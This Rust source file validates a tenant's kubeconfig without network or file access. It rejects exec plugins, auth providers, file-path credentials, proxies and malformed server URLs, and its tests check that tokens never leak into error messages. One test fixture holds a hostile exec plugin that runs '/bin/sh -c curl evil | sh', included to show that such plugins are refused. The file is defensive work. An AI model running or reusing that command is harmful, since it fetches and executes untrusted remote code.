//! Parsing a tenant's kubeconfig without touching the network or the file
//! system, refusing exec plugins, auth providers, file references and proxies.
//! Over 500 lines only through its tests: one per kind of refusal, each
//! checking that no credential leaks into the message.

use crate::model::secret::Secret;
use kube::config::Kubeconfig;

use super::nesting::{MAX_FLOW_DEPTH, flow_depth_bound};
use super::text::{clean, shown, yaml_detail};
use super::{KubeconfigError, MAX_KUBECONFIG_BYTES, TenantKubeconfig};

/// Checks a kubeconfig without touching the network or the file system.
pub fn parse(yaml: &str) -> Result<TenantKubeconfig, KubeconfigError> {
    if yaml.len() > MAX_KUBECONFIG_BYTES {
        return Err(KubeconfigError::TooLarge {
            size: yaml.len(),
            limit: MAX_KUBECONFIG_BYTES,
        });
    }
    if yaml.trim().is_empty() {
        return Err(KubeconfigError::Empty);
    }
    // Before the YAML parser: its time grows with the square of the depth.
    if flow_depth_bound(yaml, MAX_FLOW_DEPTH) > MAX_FLOW_DEPTH {
        return Err(KubeconfigError::TooDeep {
            limit: MAX_FLOW_DEPTH,
        });
    }
    let mut kc: Kubeconfig = serde_yaml::from_str(yaml).map_err(|e| KubeconfigError::Yaml {
        detail: yaml_detail(&e),
    })?;

    let context_name = kc
        .current_context
        .clone()
        .filter(|c| !c.is_empty())
        .ok_or(KubeconfigError::NoCurrentContext)?;
    let context = kc
        .contexts
        .iter()
        .find(|c| c.name == context_name)
        .and_then(|c| c.context.clone())
        .ok_or_else(|| KubeconfigError::ContextNotFound {
            context: shown(&context_name),
        })?;
    let cluster = kc
        .clusters
        .iter()
        .find(|c| c.name == context.cluster)
        .and_then(|c| c.cluster.as_ref())
        .ok_or_else(|| KubeconfigError::ClusterNotFound {
            context: shown(&context_name),
            cluster: shown(&context.cluster),
        })?;
    let user_name = context
        .user
        .clone()
        .filter(|u| !u.is_empty())
        .ok_or_else(|| KubeconfigError::NoUser {
            context: shown(&context_name),
        })?;
    let user = kc
        .auth_infos
        .iter()
        .find(|u| u.name == user_name)
        .and_then(|u| u.auth_info.as_ref())
        .ok_or_else(|| KubeconfigError::UserNotFound {
            context: shown(&context_name),
            user: shown(&user_name),
        })?;

    // The cluster entry: only inline data, a direct connection, an http(s) URL.
    let cluster_entry = format!("cluster {}", shown(&context.cluster));
    if cluster.certificate_authority.is_some() {
        return Err(file_reference(
            &cluster_entry,
            "certificate-authority",
            "certificate-authority-data",
        ));
    }
    if let Some(key) = cluster.other.keys().find(|k| names_a_file(k)) {
        return Err(file_reference(
            &cluster_entry,
            key,
            "the matching *-data field",
        ));
    }
    if cluster.proxy_url.as_deref().is_some_and(|p| !p.is_empty()) {
        return Err(KubeconfigError::Proxy {
            cluster: shown(&context.cluster),
        });
    }
    let server = cluster
        .server
        .clone()
        .filter(|s| !s.trim().is_empty())
        .ok_or_else(|| KubeconfigError::NoServer {
            cluster: shown(&context.cluster),
        })?;
    check_server(&server).map_err(|problem| KubeconfigError::BadServer {
        cluster: shown(&context.cluster),
        problem,
    })?;

    // The user entry: credentials must be inline; nothing that runs or reads anything.
    let user_entry = format!("user {}", shown(&user_name));
    if user.exec.is_some() {
        return Err(KubeconfigError::ExecPlugin {
            user: shown(&user_name),
        });
    }
    if let Some(provider) = &user.auth_provider {
        return Err(KubeconfigError::AuthProvider {
            user: shown(&user_name),
            provider: shown(&provider.name),
        });
    }
    for (set, field, hint) in [
        (user.token_file.is_some(), "tokenFile", "token"),
        (
            user.client_certificate.is_some(),
            "client-certificate",
            "client-certificate-data",
        ),
        (user.client_key.is_some(), "client-key", "client-key-data"),
    ] {
        if set {
            return Err(file_reference(&user_entry, field, hint));
        }
    }
    if let Some(key) = user.other.keys().find(|k| names_a_file(k)) {
        return Err(file_reference(
            &user_entry,
            key,
            "the matching inline field",
        ));
    }

    let namespace = context
        .namespace
        .clone()
        .filter(|n| !n.is_empty())
        .unwrap_or_else(|| "default".to_string());
    check_namespace(&namespace).map_err(|problem| KubeconfigError::BadNamespace {
        namespace: shown(&namespace),
        problem,
    })?;

    // Keep just what is used, so nothing unchecked can take effect later.
    let cluster_name = context.cluster.clone();
    kc.contexts.retain(|c| c.name == context_name);
    kc.contexts.truncate(1);
    kc.clusters.retain(|c| c.name == cluster_name);
    kc.clusters.truncate(1);
    kc.auth_infos.retain(|u| u.name == user_name);
    kc.auth_infos.truncate(1);
    kc.preferences = None;
    kc.extensions = None;
    // Held as text so that it can be a secret, which Debug does not show.
    let kubeconfig = serde_json::to_string(&kc).map_err(|e| KubeconfigError::Config {
        detail: clean(&e.to_string()),
    })?;
    Ok(TenantKubeconfig {
        namespace,
        context: context_name,
        server,
        kubeconfig: Secret::from(kubeconfig),
    })
}

fn file_reference(entry: &str, field: &str, hint: &'static str) -> KubeconfigError {
    KubeconfigError::FileReference {
        entry: entry.to_string(),
        field: shown(field),
        hint,
    }
}

/// Unknown keys that name files (e.g. `token-file`): kube ignores them, but a
/// tenant who wrote one expects it to be used, so say why it is not.
fn names_a_file(key: &str) -> bool {
    key.to_ascii_lowercase().contains("file")
}

fn check_server(server: &str) -> Result<(), &'static str> {
    if server.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err("it contains spaces or control characters");
    }
    let lower = server.to_ascii_lowercase();
    let rest = lower
        .strip_prefix("https://")
        .or_else(|| lower.strip_prefix("http://"))
        .ok_or("it must start with https:// (or http://)")?;
    let authority = rest.split('/').next().unwrap_or_default();
    if authority.contains('@') {
        return Err(
            "it must not contain a user name or password; put credentials in the user entry",
        );
    }
    if rest.contains(['?', '#']) {
        return Err("it must not have a query string or fragment");
    }
    if authority.is_empty() || authority.starts_with(':') {
        return Err("it has no host name");
    }
    Ok(())
}

/// DNS-1123 label: 1–63 of a-z, 0-9 and '-', starting and ending with a letter or digit.
fn check_namespace(ns: &str) -> Result<(), &'static str> {
    if ns.len() > 63 {
        return Err("it is longer than 63 characters");
    }
    if !ns
        .bytes()
        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    {
        return Err("only lowercase letters, digits and '-' are allowed");
    }
    if ns.starts_with('-') || ns.ends_with('-') {
        return Err("it must start and end with a letter or digit");
    }
    Ok(())
}

#[cfg(test)]
mod tests {

    use super::*;

    const TOKEN: &str = "sEcReT-T0KEN-do-not-echo";

    fn config(cluster: &str, user: &str, context_extra: &str) -> String {
        format!(
            "apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
{cluster}
users:
- name: dev
  user:
{user}
contexts:
- name: main
  context:
    cluster: prod
    user: dev
{context_extra}
current-context: main
"
        )
    }

    fn good_cluster() -> &'static str {
        "    server: https://k8s.example.com:6443\n    certificate-authority-data: LS0tLS1CRUdJTg=="
    }

    fn token_user() -> String {
        format!("    token: {TOKEN}")
    }

    /// Parses and returns the error, checking the token never shows up in it.
    fn refused(yaml: &str) -> KubeconfigError {
        let err = parse(yaml).expect_err("should be refused");
        let shown = format!("{err} {err:?}");
        assert!(!shown.contains(TOKEN), "the token leaked: {shown}");
        assert!(
            !shown.contains("T0KEN"),
            "part of the token leaked: {shown}"
        );
        err
    }

    #[test]
    fn a_good_kubeconfig_keeps_only_the_current_context() {
        // Another context whose user has an exec plugin does not matter: it is not used.
        let yaml = format!(
            "apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://k8s.example.com:6443
    certificate-authority-data: LS0tLS1CRUdJTg==
- name: gke
  cluster:
    server: https://gke.example.com
users:
- name: plugin
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: gke-gcloud-auth-plugin
- name: dev
  user:
    token: {TOKEN}
contexts:
- name: gke
  context: {{cluster: gke, user: plugin}}
- name: main
  context: {{cluster: prod, user: dev, namespace: team-a}}
current-context: main
"
        );
        let t = parse(&yaml).unwrap();
        assert_eq!(t.namespace, "team-a");
        assert_eq!(t.context, "main");
        assert_eq!(t.server, "https://k8s.example.com:6443");
        let kc = t.kubeconfig().unwrap();
        assert_eq!(kc.contexts.len(), 1);
        assert_eq!(kc.clusters.len(), 1);
        assert_eq!(kc.auth_infos.len(), 1);
        assert_eq!(kc.auth_infos[0].name, "dev");
        assert!(!format!("{t:?}").contains(TOKEN));
    }

    #[test]
    fn the_checked_kubeconfig_keeps_the_credentials_and_debug_hides_them() {
        let t = parse(&config(good_cluster(), &token_user(), "")).unwrap();
        assert!(!format!("{t:?}").contains(TOKEN));
        let kc = t.kubeconfig().unwrap();
        let user = kc.auth_infos[0].auth_info.as_ref().unwrap();
        use secrecy::ExposeSecret;
        assert_eq!(user.token.as_ref().unwrap().expose_secret(), TOKEN);
        let cluster = kc.clusters[0].cluster.as_ref().unwrap();
        assert_eq!(
            cluster.certificate_authority_data.as_deref(),
            Some("LS0tLS1CRUdJTg==")
        );
        assert_eq!(
            cluster.server.as_deref(),
            Some("https://k8s.example.com:6443")
        );
    }

    #[test]
    fn namespace_defaults_to_default() {
        let t = parse(&config(good_cluster(), &token_user(), "")).unwrap();
        assert_eq!(t.namespace, "default");
        let t = parse(&config(
            good_cluster(),
            &token_user(),
            "    namespace: \"\"",
        ))
        .unwrap();
        assert_eq!(t.namespace, "default");
    }

    #[test]
    fn plain_http_servers_and_paths_are_accepted() {
        let t = parse(&config(
            "    server: http://127.0.0.1:8080/k8s/clusters/c-1",
            &token_user(),
            "",
        ))
        .unwrap();
        assert_eq!(t.server, "http://127.0.0.1:8080/k8s/clusters/c-1");
    }

    #[test]
    fn malformed_yaml_is_refused_without_echoing_values() {
        assert!(matches!(
            refused("clusters: [\n  - {"),
            KubeconfigError::Yaml { .. }
        ));
        // A token where a list belongs: serde would quote it in its message.
        let err = refused(&format!("users: {TOKEN}\n"));
        assert!(matches!(err, KubeconfigError::Yaml { .. }), "{err:?}");
        let err = refused(&format!(
            "contexts:\n- name: main\n  context: {{cluster: 1, user: [{TOKEN}]}}\n"
        ));
        assert!(matches!(err, KubeconfigError::Yaml { .. }), "{err:?}");
        assert!(matches!(refused("  \n"), KubeconfigError::Empty));
    }

    #[test]
    fn missing_or_dangling_references_are_refused() {
        let yaml = config(good_cluster(), &token_user(), "");
        assert!(matches!(
            refused(&yaml.replace("current-context: main\n", "")),
            KubeconfigError::NoCurrentContext
        ));
        assert!(matches!(
            refused(&yaml.replace("current-context: main", "current-context: gone")),
            KubeconfigError::ContextNotFound { .. }
        ));
        assert!(matches!(
            refused(&yaml.replace("cluster: prod", "cluster: gone")),
            KubeconfigError::ClusterNotFound { .. }
        ));
        assert!(matches!(
            refused(&yaml.replace("    user: dev\n", "")),
            KubeconfigError::NoUser { .. }
        ));
        assert!(matches!(
            refused(&yaml.replace("user: dev", "user: gone")),
            KubeconfigError::UserNotFound { .. }
        ));
        let err = refused(&config(
            "    insecure-skip-tls-verify: true",
            &token_user(),
            "",
        ));
        assert!(matches!(err, KubeconfigError::NoServer { .. }), "{err:?}");
    }

    #[test]
    fn bad_server_urls_are_refused() {
        for server in [
            "ftp://k8s.example.com",
            "k8s.example.com:6443",
            "https://",
            "https://admin:hunter2@k8s.example.com",
            "https://k8s.example.com/?token=abc",
        ] {
            let err = refused(&config(&format!("    server: {server}"), &token_user(), ""));
            assert!(
                matches!(err, KubeconfigError::BadServer { .. }),
                "{server}: {err:?}"
            );
            assert!(!err.to_string().contains("hunter2"));
        }
    }

    #[test]
    fn exec_plugins_and_auth_providers_are_refused() {
        let exec = format!(
            "{}\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']",
            token_user()
        );
        let err = refused(&config(good_cluster(), &exec, ""));
        assert!(matches!(err, KubeconfigError::ExecPlugin { .. }), "{err:?}");
        assert!(err.to_string().contains("exec plugin"));

        let provider = format!(
            "    auth-provider:\n      name: oidc\n      config:\n        id-token: {TOKEN}\n        refresh-token: {TOKEN}"
        );
        let err = refused(&config(good_cluster(), &provider, ""));
        assert!(
            matches!(err, KubeconfigError::AuthProvider { ref provider, .. } if provider.contains("oidc")),
            "{err:?}"
        );
    }

    #[test]
    fn file_references_are_refused() {
        let cases = [
            (
                "    server: https://k8s.example.com\n    certificate-authority: /etc/kubernetes/ca.crt".to_string(),
                token_user(),
                "certificate-authority",
            ),
            (good_cluster().to_string(), "    tokenFile: /var/run/secrets/token".to_string(), "tokenFile"),
            (good_cluster().to_string(), "    token-file: /var/run/secrets/token".to_string(), "token-file"),
            (
                good_cluster().to_string(),
                "    client-certificate: /root/.kube/client.crt\n    client-key-data: c2VjcmV0".to_string(),
                "client-certificate",
            ),
            (
                good_cluster().to_string(),
                "    client-certificate-data: Y2VydA==\n    client-key: /root/.kube/client.key".to_string(),
                "client-key",
            ),
        ];
        for (cluster, user, field) in cases {
            let err = refused(&config(&cluster, &user, ""));
            match &err {
                KubeconfigError::FileReference { field: f, .. } => {
                    assert!(f.contains(field), "{err}")
                }
                other => panic!("{field}: expected a file reference error, got {other:?}"),
            }
            assert!(!err.to_string().contains("c2VjcmV0"));
        }
    }

    #[test]
    fn proxies_are_refused() {
        let cluster = format!("{}\n    proxy-url: socks5://10.0.0.1:1080", good_cluster());
        assert!(matches!(
            refused(&config(&cluster, &token_user(), "")),
            KubeconfigError::Proxy { .. }
        ));
    }

    #[test]
    fn bad_namespaces_are_refused() {
        for ns in ["Team-A", "-team", "team-", "team_a", "a.b", &"x".repeat(64)] {
            let err = refused(&config(
                good_cluster(),
                &token_user(),
                &format!("    namespace: \"{ns}\""),
            ));
            assert!(
                matches!(err, KubeconfigError::BadNamespace { .. }),
                "{ns}: {err:?}"
            );
        }
        let t = parse(&config(
            good_cluster(),
            &token_user(),
            &format!("    namespace: {}", "a".repeat(63)),
        ))
        .unwrap();
        assert_eq!(t.namespace.len(), 63);
    }

    #[test]
    fn oversize_input_is_refused_before_parsing() {
        let yaml = format!(
            "{}\n#{}\n",
            config(good_cluster(), &token_user(), ""),
            "x".repeat(MAX_KUBECONFIG_BYTES)
        );
        assert!(matches!(refused(&yaml), KubeconfigError::TooLarge { .. }));
    }

    #[test]
    fn names_are_escaped_in_messages() {
        let yaml = config(good_cluster(), &token_user(), "")
            .replace("current-context: main", "current-context: \"\\e[31mred\"");
        let err = refused(&yaml);
        assert!(!err.to_string().contains('\u{1b}'), "{err}");
    }
}
